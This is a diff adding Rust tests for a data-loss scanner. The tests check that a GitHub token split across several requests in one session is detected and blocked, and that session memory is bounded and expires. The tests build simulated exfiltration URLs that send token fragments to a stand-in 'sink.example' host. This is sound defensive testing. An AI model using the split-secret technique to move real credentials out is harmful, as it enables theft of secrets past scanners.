@@ -1,0 +1,103 @@
+//! A secret in pieces over several messages of one session is found in the message that completes it.
+
+mod common;
+
+use std::time::Duration;
+
+use common::{post, scanner, scanner_with};
+use scanner::{Answer, ExampleKind, InMemory, Message, Scanner, Session, Verdict};
+
+fn token(scanner: &Scanner) -> String {
+    let mut tokens = scanner.rules().examples(3).filter(|example| example.kind == ExampleKind::Token);
+    let token =
+        tokens.find(|example| *example.rule == *"github.personal-access-token").expect("there is one");
+    String::from_utf8(token.text).expect("ASCII")
+}
+
+fn in_session<'a>(mut message: Message<'a>, session: &'a str, flow: &'a str) -> Message<'a> {
+    message.session = Some(session.into());
+    message.flow = Some(flow.into());
+    message
+}
+
+/// Asks for `url` in session `s`, at this minute.
+fn get(scanner: &Scanner, memory: &InMemory, url: &str, flow: &str, minute: u64) -> Answer {
+    let session = Session { memory, now: Duration::from_secs(60 * minute) };
+    let message = in_session(post(url, &[], b""), "s", flow);
+    scanner.scan_in_session(&message, session, &|| false).expect("the message is within the limits")
+}
+
+#[test]
+fn pieces_meet_over_messages_whatever_stands_between() {
+    let (scanner, memory) = (scanner(), InMemory::new());
+    let token = token(&scanner);
+    let pieces: Vec<&str> = [&token[..13], &token[13..25], &token[25..]].into();
+    let ordinary = "https://other.example/page?lang=en&page=2&sort=name";
+    for (flow, piece) in pieces.iter().take(2).enumerate() {
+        let url = format!("https://{flow}.sink.example/collect?n={flow}&d={piece}");
+        assert_eq!(get(&scanner, &memory, &url, &format!("p{flow}"), 0).verdict, Verdict::Allow);
+        assert_eq!(get(&scanner, &memory, ordinary, &format!("o{flow}"), 0).verdict, Verdict::Allow);
+    }
+    let last = get(&scanner, &memory, &format!("https://sink.example/collect?n=2&d={}", pieces[2]), "p2", 1);
+    assert_eq!(last.verdict, Verdict::Block);
+    assert_eq!(last.findings[0].decoded_by, ["session", "pieces"]);
+    assert!(last.coverage.session);
+    let again = get(&scanner, &memory, &format!("https://sink.example/collect?n=2&d={}", pieces[2]), "p3", 1);
+    assert_eq!(again.verdict, Verdict::Block, "whoever tries again is stopped again");
+}
+
+#[test]
+fn what_is_old_is_forgotten() {
+    let (scanner, memory) = (scanner_with("[limits]\nsession_minutes = 5\n"), InMemory::new());
+    let token = token(&scanner);
+    let (first, last) = token.split_at(20);
+    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
+    assert_eq!(memory.sessions(), 1);
+    let answer = get(&scanner, &memory, &format!("https://sink.example/?d={last}"), "b", 6);
+    assert_eq!(answer.verdict, Verdict::Allow);
+    assert_eq!(memory.sessions(), 0, "nothing is left to remember");
+}
+
+#[test]
+fn ordinary_messages_and_whole_secrets_leave_nothing() {
+    let (scanner, memory) = (scanner(), InMemory::new());
+    let token = token(&scanner);
+    let urls = [
+        "https://api.example.com/v1/items?page=2&sort=name".to_owned(),
+        "https://cdn.example.com/assets/index-4f3a9c1d.js".to_owned(),
+        format!("https://sink.example/?d={token}"),
+    ];
+    for (number, url) in urls.iter().enumerate() {
+        get(&scanner, &memory, url, &number.to_string(), 0);
+        assert_eq!(memory.sessions(), 0, "{number}");
+    }
+}
+
+#[test]
+fn memory_is_bounded_and_shows_nothing() {
+    let (scanner, memory) = (scanner_with("[limits]\nsession_bytes = 200\n"), InMemory::new());
+    let token = token(&scanner);
+    let (first, last) = token.split_at(20);
+    get(&scanner, &memory, &format!("https://sink.example/?d={first}"), "a", 0);
+    for number in 0..30 {
+        get(&scanner, &memory, &format!("https://other.example/?q=word{number}"), &format!("o{number}"), 0);
+    }
+    let answer = get(&scanner, &memory, &format!("https://sink.example/?d={last}"), "b", 0);
+    assert_eq!(answer.verdict, Verdict::Allow, "what came first went first");
+    assert!(!format!("{memory:?}").contains(first));
+}
+
+#[test]
+fn without_a_session_nothing_is_remembered() {
+    let (scanner, memory) = (scanner(), InMemory::new());
+    let token = token(&scanner);
+    let (first, last) = token.split_at(20);
+    for piece in [first, last] {
+        let url = format!("https://sink.example/?d={piece}");
+        let session = Session { memory: &memory, now: Duration::ZERO };
+        let answer = scanner.scan_in_session(&post(&url, &[], b""), session, &|| false).expect("a verdict");
+        assert_eq!((answer.verdict, answer.coverage.session), (Verdict::Allow, false));
+        assert!(answer.coverage.complete);
+    }
+    assert_eq!(memory.sessions(), 0);
+}
